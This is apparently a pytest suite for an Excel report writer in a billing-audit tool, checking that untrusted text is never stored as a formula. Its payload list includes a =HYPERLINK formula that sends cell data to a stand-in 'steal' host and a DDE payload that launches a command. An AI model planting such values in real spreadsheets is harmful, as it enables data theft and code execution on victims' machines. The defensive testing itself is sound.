"""Untrusted export text in the workbook: never a formula, XML-safe, within Excel's limits."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from xml.etree import ElementTree

import pandas as pd
import pytest
from openpyxl import load_workbook
from report_fixtures import make_lines, make_result

from auditkit.excel.openpyxl_writer import write_report, write_workbook
from auditkit.ingest.model import ClaimLines, FileReport
from auditkit.report import build_report
from auditkit.report.safety import MAX_CELL_CHARS

PAYLOADS = (
    '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click me")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=2+2",
    "\r=3+3",
)
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


@pytest.fixture(scope="module")
def injected(tmp_path_factory):
    """A workbook whose providers, payers and claim ids are formula-injection payloads."""
    lines = make_lines(n=40, files=1)
    frame = lines.frame.copy()
    n = len(PAYLOADS)
    frame["rendering_provider"] = [PAYLOADS[i % n] for i in range(len(frame))]
    frame["payer"] = [PAYLOADS[(i + 1) % n] for i in range(len(frame))]
    frame["claim_id"] = [f"{PAYLOADS[(i // 2) % n]}#{i // 2}" for i in range(len(frame))]
    inputs = [FileReport(path="=evil().csv", rows=len(frame), mapping={"payer": "@payer"})]
    lines = ClaimLines(frame=frame, inputs=inputs)
    result = make_result(lines)
    path = tmp_path_factory.mktemp("inject") / "audit.xlsx"
    write_workbook(result, path, lines=lines, with_lines=True, practice="=Practice()")
    return path, result


def _cells(path) -> list[tuple[str, str, ElementTree.Element]]:
    out = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                root = ElementTree.fromstring(archive.read(name))
                out.extend((name, c.get("r"), c) for c in root.iter(f"{{{NS['m']}}}c"))
    return out


def test_payloads_are_text_cells_in_the_xml(injected):
    path, _ = injected
    cells = _cells(path)
    assert cells
    assert not [c for _n, _r, c in cells if c.find("m:f", NS) is not None]
    seen = set()
    for _name, _ref, cell in cells:
        texts = cell.findall(".//m:t", NS)
        text = "".join(t.text or "" for t in texts)
        for payload in PAYLOADS:
            if text.startswith(payload.lstrip("\r")) or text.startswith(payload):
                assert cell.get("t") == "inlineStr"
                seen.add(payload)
    assert {p for p in PAYLOADS if not p.startswith("\r")} <= seen


def test_payloads_read_back_as_text_with_quote_prefix(injected):
    path, result = injected
    wb = load_workbook(path)
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r\n":
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    if cell.value[:1] != "\n":  # a bare CR is read back as LF by XML parsers
                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    found.setdefault(ws.title, set()).add(cell.value.split("#")[0])
    # in the fast-path tables (audit sheets, claim lines) and the cell-path ones (Summary, About)
    assert {"Summary", "paid-vs-denied", "Claim lines", "About"} <= set(found)
    assert "=HYPERLINK(" in "".join(found["Claim lines"])
    assert {"+1+1", "-2+3"} <= found["Claim lines"]
    assert any(v.startswith("@SUM(") for v in found["paid-vs-denied"])
    assert "=evil().csv" in found["About"]
    assert wb["Summary"]["A1"].value == "Billing audit: =Practice()"


def test_summary_top_findings_keep_payload_text(injected):
    path, result = injected
    ws = load_workbook(path)["Summary"]
    table = ws.tables["ak_top_findings"]
    values = [c.value for row in ws[table.ref] for c in row]
    providers = set(result.findings["provider"].dropna())
    assert providers & set(values)


def test_control_characters_and_long_text(tmp_path):
    lines = make_lines(n=40, files=1)
    frame = lines.frame.copy()
    frame.loc[0, "payer"] = "Acme\x00 \x08Health\x1b"
    lines = replace(lines, frame=frame)
    result = make_result(lines)
    findings = result.findings.copy()
    findings.loc[0, "message"] = "start " + "z" * 50_000
    findings.loc[1, "provider"] = "Dr.\x0c Vertical\x0b Tab"
    result = replace(result, findings=findings)
    path = write_workbook(result, tmp_path / "audit.xlsx", lines=lines, with_lines=True)
    wb = load_workbook(path)
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    texts = [v for v in values if isinstance(v, str)]
    assert "Acme Health" in texts
    assert "Dr. Vertical Tab" in texts
    long = [v for v in texts if v.startswith("start zzz")]
    assert long and all(len(v) <= MAX_CELL_CHARS for v in long)
    assert long[0].endswith("[truncated]")
    assert all(len(v) <= MAX_CELL_CHARS for v in texts)


def test_rows_beyond_a_sheet_spill_to_continuation_sheets(tmp_path, result, lines):
    report = build_report(result, lines, with_lines=True, max_rows=60)
    path = write_report(report, tmp_path / "spill.xlsx")
    wb = load_workbook(path)
    parts = [n for n in wb.sheetnames if n.startswith("Claim lines")]
    assert parts == [
        "Claim lines",
        "Claim lines (2)",
        "Claim lines (3)",
        "Claim lines (4)",
        "Claim lines (5)",
    ]
    claims = []
    for name in parts:
        ws = wb[name]
        assert ws.max_row <= 60
        (table,) = ws.tables.values()
        rows = list(ws[table.ref])
        header = [c.value for c in rows[0]]
        claims += [r[header.index("claim_id")].value for r in rows[1:]]
    assert claims == list(lines.frame["claim_id"])
    note = [c.value for c in wb["Claim lines"]["A"] if isinstance(c.value, str)]
    assert any("more than one sheet holds" in v for v in note)
    summary = wb["Summary"]
    links = [c.hyperlink.location for row in summary.iter_rows() for c in row if c.hyperlink]
    assert links and all(re.fullmatch(r"'?[^!]+'?!A\d+", loc) for loc in links)


def test_empty_findings_still_make_a_workbook(tmp_path):
    lines = make_lines(n=20, files=1)
    result = make_result(lines)
    result = replace(result, findings=result.findings.iloc[0:0])
    path = write_workbook(result, tmp_path / "clean.xlsx", lines=lines, with_lines=True)
    wb = load_workbook(path)
    ws = wb["tpi-ratio"]
    assert not ws.tables
    assert any(c.value == "No findings." for c in ws["A"])
    assert "Claim lines" in wb.sheetnames


def test_values_of_every_type_survive(tmp_path):
    lines = make_lines(n=20, files=1)
    frame = lines.frame.copy()
    frame["edited_before_submission"] = pd.array(
        [True, False, None] * 6 + [True, True], dtype="boolean"
    )
    frame["extra_note"] = ["café ünïcode ✓ <b>&amp;</b>"] * 20
    frame.loc[3, "charge"] = float("nan")
    lines = replace(lines, frame=frame)
    result = make_result(lines)
    path = write_workbook(result, tmp_path / "types.xlsx", lines=lines, with_lines=True)
    ws = load_workbook(path)["Claim lines"]
    (table,) = ws.tables.values()
    rows = list(ws[table.ref])
    header = [c.value for c in rows[0]]
    body = [[c.value for c in r] for r in rows[1:]]
    edited = [r[header.index("edited_before_submission")] for r in body]
    assert edited[:3] == [True, False, None]
    assert body[0][header.index("extra_note")] == "café ünïcode ✓ <b>&amp;</b>"
    assert body[3][header.index("charge")] is None
